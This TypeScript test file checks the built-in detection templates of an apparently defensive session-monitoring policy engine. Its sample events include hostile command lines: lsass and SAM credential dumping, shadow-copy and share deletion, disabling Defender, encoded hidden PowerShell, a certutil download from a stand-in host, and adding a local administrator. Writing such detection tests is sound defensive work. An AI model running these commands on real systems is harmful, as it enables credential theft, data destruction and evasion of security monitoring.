import { compile, DETECTABLE_TYPE_IDS, lint, respond, type SessionEvent } from '../policies/engine';
import { responsePolicy, session } from '../policies/engine/testing/examples';
import { BUILT_IN_TEMPLATES } from './built-in-templates';
import { contentOf, templateInput } from './template';

const detectsAll = {
  kind: 'eventDetection' as const,
  name: 'All',
  description: '',
  rules: [
    {
      id: 'all',
      createdAt: '2030-01-01T00:00:00.000Z',
      name: 'all',
      description: '',
      scope: {},
      eventTypes: [...DETECTABLE_TYPE_IDS],
    },
  ],
};

it('are at least twelve with unique ids, names and descriptions', () => {
  expect(BUILT_IN_TEMPLATES.length).toBeGreaterThanOrEqual(12);
  for (const field of ['id', 'name', 'description'] as const)
    expect(new Set(BUILT_IN_TEMPLATES.map((template) => template[field])).size).toBe(
      BUILT_IN_TEMPLATES.length,
    );
});

describe.each(BUILT_IN_TEMPLATES.map((template) => [template.id, template] as const))(
  '%s',
  (_id, template) => {
    it('is valid input of an administrator', () => {
      const { id: _own, ...content } = template;
      expect(contentOf(templateInput.parse(content))).toEqual(content);
    });

    it('has no findings in a rule of its own', () => {
      const policy = responsePolicy({ triggers: [...template.triggers], recipients: 'soc@contoso.example' });
      expect(lint(policy, detectsAll)).toEqual([]);
    });
  },
);

type Sample = [template: string, type: SessionEvent['type'], data: SessionEvent['data']];

/** The positions of the triggers of a template that match an event. */
function matchedTriggers([id, type, data]: Sample): number[] {
  const template = BUILT_IN_TEMPLATES.find((candidate) => candidate.id === id);
  const policy = responsePolicy({ triggers: [...(template?.triggers ?? [])] });
  const decision = respond(compile(policy), session(), { type, data });
  return decision?.triggers.map(({ position }) => position) ?? [];
}

const shell = (id: string, commandLine: string): Sample => [
  id,
  'appStart',
  { appName: 'cmd.exe', commandLine },
];
const web = (id: string, url: string): Sample => [id, 'webBrowsing', { url }];

it.each<[...Sample, number[]]>([
  ['usb-exfiltration', 'cdmUsb', { driveLetter: 'E' }, [0]],
  ['usb-exfiltration', 'genericUsb', { deviceName: 'SanDisk Cruzer USB Flash Drive' }, [1]],
  ['usb-exfiltration', 'genericUsb', { deviceName: 'HID keyboard' }, []],
  ['usb-exfiltration', 'fileTransfer', { fileSource: 'host', fileSizeBytes: 20 * 1_048_576 }, [2]],
  ['usb-exfiltration', 'fileTransfer', { fileSource: 'client', fileSizeBytes: 20 * 1_048_576 }, []],
  ['usb-exfiltration', 'fileMove', { destinationPath: '\\\\Client\\E$\\plans.docx' }, [3]],
  ['clipboard-exfiltration', 'clipboardOperation', { dataType: 'file' }, [0]],
  ['clipboard-exfiltration', 'clipboardOperation', { dataType: 'text', content: '4111 1111 1111 1111' }, [2]],
  ['clipboard-exfiltration', 'clipboardOperation', { dataType: 'text', content: '378282246310005' }, [2]],
  [
    'clipboard-exfiltration',
    'clipboardOperation',
    { dataType: 'text', content: '-----BEGIN RSA PRIVATE KEY-----' },
    [1],
  ],
  [
    'clipboard-exfiltration',
    'clipboardOperation',
    { dataType: 'text', content: 'order 1234567890123456' },
    [],
  ],
  ['credential-dumping', 'appStart', { appName: 'Mimikatz.exe', commandLine: 'mimikatz.exe' }, [0]],
  [...shell('credential-dumping', 'rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 612 x full'), [1]],
  [...shell('credential-dumping', '"C:\\t\\procdump64.exe" -ma lsass out.dmp'), [1]],
  [...shell('credential-dumping', 'reg save HKLM\\SAM sam.hiv'), [1]],
  [...shell('credential-dumping', 'reg query HKLM\\SAM'), []],
  ['credential-dumping', 'fileCreate', { path: 'C:\\t\\lsass_2030.dmp' }, [2]],
  ['remote-access-tools', 'appStart', { appName: 'AnyDesk.exe', commandLine: 'AnyDesk.exe' }, [0]],
  ['remote-access-tools', 'appStart', { appName: 'notepad.exe', commandLine: 'notepad anydesk.txt' }, []],
  ['remote-access-tools', 'newAppInstalled', { appName: 'TeamViewer Host' }, [2]],
  [...web('remote-access-tools', 'https://www.anydesk.com/download'), [3]],
  [...shell('mass-deletion', 'vssadmin.exe delete shadows /all /quiet'), [0]],
  [...shell('mass-deletion', 'cmd /c rmdir /s /q D:\\shares'), [1]],
  [...shell('mass-deletion', 'powershell Remove-Item D:\\shares -Recurse -Force'), [1]],
  [...shell('mass-deletion', 'cmd /c del old.log'), []],
  ['mass-deletion', 'fileDelete', { path: 'D:\\backup.vhdx', fileSizeBytes: 2_000 * 1_048_576 }, [2]],
  [
    'registry-persistence',
    'registrySetValue',
    { keyName: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', valueName: 'Updater' },
    [0],
  ],
  [
    'registry-persistence',
    'registrySetValue',
    { keyName: 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon', valueName: 'Shell' },
    [2],
  ],
  [
    'registry-persistence',
    'registrySetValue',
    { keyName: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunMRU', valueName: 'a' },
    [],
  ],
  ['new-local-administrator', 'userAccountModification', { userName: 'eve' }, [0]],
  [...shell('new-local-administrator', 'net localgroup Administrators eve /add'), [1]],
  [...shell('new-local-administrator', 'net localgroup Administrators'), []],
  ['rdp-hop', 'rdpConnection', { ipAddress: '10.1.2.3' }, [0]],
  ['rdp-hop', 'appStart', { appName: 'mstsc.exe', commandLine: 'mstsc /v:srv' }, [1]],
  [...shell('rdp-hop', 'PsExec64.exe \\\\SRV02 cmd'), [2]],
  [...web('webmail-and-file-sharing', 'https://mail.google.com/mail/u/0/#inbox'), [0]],
  [...web('webmail-and-file-sharing', 'https://www.dropbox.com/upload'), [1]],
  [...web('webmail-and-file-sharing', 'https://dropbox.com.contoso.example/'), []],
  [...web('webmail-and-file-sharing', 'https://contoso.example/?next=dropbox.com'), []],
  ['long-idle', 'idle', { idleSeconds: 2 * 3600 }, [0]],
  ['long-idle', 'idle', { idleSeconds: 5 * 3600 }, [0, 1]],
  ['high-cpu', 'performanceData', { cpuPercent: 95, rttMilliseconds: 400 }, [0, 2]],
  ['high-cpu', 'performanceData', { cpuPercent: 90 }, []],
  [...shell('unsigned-installers', '"C:\\Users\\ada\\Downloads\\setup (1).exe" /S'), [0]],
  [...shell('unsigned-installers', '"C:\\Program Files\\App\\setup.exe"'), []],
  ['unsigned-installers', 'popupWindow', { windowContent: 'Publisher: Unknown Publisher' }, [1]],
  [...shell('security-tools-off', 'powershell Set-MpPreference -DisableRealtimeMonitoring $true'), [0]],
  [...shell('security-tools-off', 'net stop WinDefend'), [0]],
  [...shell('security-tools-off', 'net stop Spooler'), []],
  [...shell('script-hosts', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A'), [0]],
  [...shell('script-hosts', 'certutil -urlcache -f http://x.example/a.exe a.exe'), [1]],
  [...shell('script-hosts', 'powershell.exe -File C:\\scripts\\backup.ps1'), []],
  ['app-failures', 'appNotResponding', { appName: 'excel.exe' }, [1]],
  ['session-starts', 'sessionStart', {}, [0]],
])('%s matches %s %j by its triggers %j', (id, type, data, positions) => {
  expect(matchedTriggers([id, type, data])).toEqual(positions);
});
